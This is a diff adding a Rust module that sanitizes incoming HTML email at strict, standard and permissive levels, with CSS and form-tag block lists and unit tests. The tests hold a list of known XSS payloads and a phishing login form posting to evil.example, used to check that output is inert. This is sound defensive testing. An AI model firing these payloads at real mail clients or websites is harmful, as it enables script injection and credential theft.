@@ -0,0 +1,255 @@
+//! Sanitizing incoming HTML mail.
+//!
+//! Every level removes scripts, event handlers, frames and forms, so a
+//! message can never run code or post a credential form to a remote
+//! server. The levels differ in how much layout and styling survive.
+//! Inline CSS is kept only when it cannot load anything or escape the
+//! message pane.
+
+use cove_core::{SanitizerLevel, SanitizerPolicy};
+use ammonia::Builder;
+use std::borrow::Cow;
+use std::collections::{HashMap, HashSet};
+
+/// Tags removed at every level, content kept, in case a level's allow-list
+/// ever grows to include them.
+const FORM_TAGS: &[&str] = &[
+    "form", "input", "button", "select", "option", "textarea", "fieldset", "label",
+];
+
+const STRICT_TAGS: &[&str] = &[
+    "a",
+    "b",
+    "blockquote",
+    "br",
+    "code",
+    "div",
+    "em",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "hr",
+    "i",
+    "li",
+    "ol",
+    "p",
+    "pre",
+    "s",
+    "span",
+    "strong",
+    "u",
+    "ul",
+];
+
+/// CSS that fetches remote resources, runs script in old engines or hides
+/// a payload behind escapes and comments.
+const BLOCKED_CSS: &[&str] = &[
+    "url(",
+    "image(",
+    "image-set(",
+    "expression(",
+    "javascript:",
+    "@import",
+    "\\",
+    "/*",
+];
+
+/// Properties that let a message draw outside its pane or bind behaviour.
+const BLOCKED_CSS_PROPERTIES: &[&str] = &["position", "behavior", "-moz-binding"];
+
+/// Clean `html` according to `policy`.
+pub fn sanitize_html(html: &str, policy: &SanitizerPolicy) -> String {
+    let mut builder = Builder::default();
+    match policy.level {
+        SanitizerLevel::Strict => {
+            builder
+                .tags(STRICT_TAGS.iter().copied().collect())
+                .tag_attributes(HashMap::from([("a", HashSet::from(["href", "title"]))]))
+                .generic_attributes(HashSet::new())
+                .url_schemes(HashSet::from(["http", "https", "mailto"]));
+        }
+        SanitizerLevel::Standard => {
+            builder.add_generic_attributes(["style"]);
+        }
+        SanitizerLevel::Permissive => {
+            builder
+                .add_tags(["center", "font"])
+                .add_tag_attributes("font", ["color", "face", "size"])
+                .add_generic_attributes([
+                    "style", "class", "align", "valign", "bgcolor", "width", "height",
+                ]);
+        }
+    }
+    if policy.strip_css {
+        builder.rm_generic_attributes(["style"]);
+    }
+    builder
+        .rm_tags(FORM_TAGS.iter().copied())
+        .attribute_filter(|_element, attribute, value| {
+            if attribute == "style" {
+                clean_style(value).map(Cow::Owned)
+            } else {
+                Some(Cow::Borrowed(value))
+            }
+        });
+    builder.clean(html).to_string()
+}
+
+/// Keep the declarations of an inline style that are safe to render.
+fn clean_style(style: &str) -> Option<String> {
+    let kept: Vec<&str> = style
+        .split(';')
+        .map(str::trim)
+        .filter(|declaration| is_safe_declaration(declaration))
+        .collect();
+    (!kept.is_empty()).then(|| kept.join("; "))
+}
+
+fn is_safe_declaration(declaration: &str) -> bool {
+    let lower = declaration.to_ascii_lowercase();
+    let Some((property, _)) = lower.split_once(':') else {
+        return false;
+    };
+    !BLOCKED_CSS_PROPERTIES.contains(&property.trim())
+        && !BLOCKED_CSS.iter().any(|token| lower.contains(token))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const LEVELS: [SanitizerLevel; 3] = [
+        SanitizerLevel::Strict,
+        SanitizerLevel::Standard,
+        SanitizerLevel::Permissive,
+    ];
+
+    /// Payloads seen in the wild against webmail and desktop clients.
+    const XSS_PAYLOADS: &[&str] = &[
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<body onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg onload=alert(1)>",
+        "<a href=\"javascript:alert(1)\">open</a>",
+        "<a href=\"jAvAsCrIpT&colon;alert(1)\">open</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">open</a>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "<object data=\"javascript:alert(1)\"></object>",
+        "<embed src=\"javascript:alert(1)\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<base href=\"javascript:alert(1)//\">",
+        "<div style=\"width: expression(alert(1))\">x</div>",
+        "<div style=\"background:url(javascript:alert(1))\">x</div>",
+        "<style>@import 'https://evil.example/x.css';</style>",
+        "<details open ontoggle=alert(1)>",
+        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    ];
+
+    fn policy(level: SanitizerLevel) -> SanitizerPolicy {
+        SanitizerPolicy {
+            level,
+            strip_css: false,
+        }
+    }
+
+    fn assert_inert(output: &str) {
+        let lower = output.to_ascii_lowercase();
+        for needle in [
+            "<script",
+            "javascript",
+            "onerror",
+            "onload",
+            "ontoggle",
+            "<iframe",
+            "<object",
+            "<embed",
+            "<meta",
+            "<base",
+            "expression(",
+            "@import",
+            "<style",
+            "data:text",
+        ] {
+            assert!(!lower.contains(needle), "{needle} survived in {output}");
+        }
+    }
+
+    #[test]
+    fn known_payloads_are_inert_at_every_level() {
+        for level in LEVELS {
+            for payload in XSS_PAYLOADS {
+                assert_inert(&sanitize_html(payload, &policy(level)));
+            }
+        }
+    }
+
+    #[test]
+    fn forms_are_always_removed() {
+        let phish = "<form action=\"https://evil.example/login\" method=\"post\">\
+            <input name=\"password\" type=\"password\"><button formaction=\"https://evil.example\">\
+            Sign in</button></form>";
+        for level in LEVELS {
+            let output = sanitize_html(phish, &policy(level));
+            for needle in ["<form", "<input", "<button", "action", "evil.example"] {
+                assert!(!output.contains(needle), "{needle} survived in {output}");
+            }
+            assert!(output.contains("Sign in"));
+        }
+    }
+
+    #[test]
+    fn inline_css_keeps_only_safe_declarations() {
+        let html = "<p style=\"color: red; background: url(https://t.example/p.gif); \
+            position: fixed; font-weight: bold\">Hi</p>";
+
+        let standard = sanitize_html(html, &policy(SanitizerLevel::Standard));
+        assert!(
+            standard.contains("color: red; font-weight: bold"),
+            "{standard}"
+        );
+        assert!(!standard.contains("t.example") && !standard.contains("fixed"));
+
+        let strict = sanitize_html(html, &policy(SanitizerLevel::Strict));
+        assert_eq!(strict, "<p>Hi</p>");
+
+        let stripped = sanitize_html(
+            html,
+            &SanitizerPolicy {
+                level: SanitizerLevel::Permissive,
+                strip_css: true,
+            },
+        );
+        assert_eq!(stripped, "<p>Hi</p>");
+    }
+
+    #[test]
+    fn levels_differ_in_layout_markup() {
+        let html =
+            "<font color=\"red\">Sale</font><img src=\"https://cdn.example/a.png\" alt=\"a\">\
+            <table><tr><td bgcolor=\"#fff\">cell</td></tr></table>";
+
+        let strict = sanitize_html(html, &policy(SanitizerLevel::Strict));
+        assert!(!strict.contains("<img") && !strict.contains("<table"));
+
+        let standard = sanitize_html(html, &policy(SanitizerLevel::Standard));
+        assert!(standard.contains("<img") && standard.contains("<table"));
+        assert!(!standard.contains("<font") && !standard.contains("bgcolor"));
+
+        let permissive = sanitize_html(html, &policy(SanitizerLevel::Permissive));
+        assert!(permissive.contains("<font color=\"red\">") && permissive.contains("bgcolor"));
+    }
+
+    #[test]
+    fn links_open_without_referrer() {
+        let output = sanitize_html(
+            "<a href=\"https://example.com\">site</a>",
+            &policy(SanitizerLevel::Strict),
+        );
+        assert!(output.contains("rel=\"noopener noreferrer\""), "{output}");
+    }
+}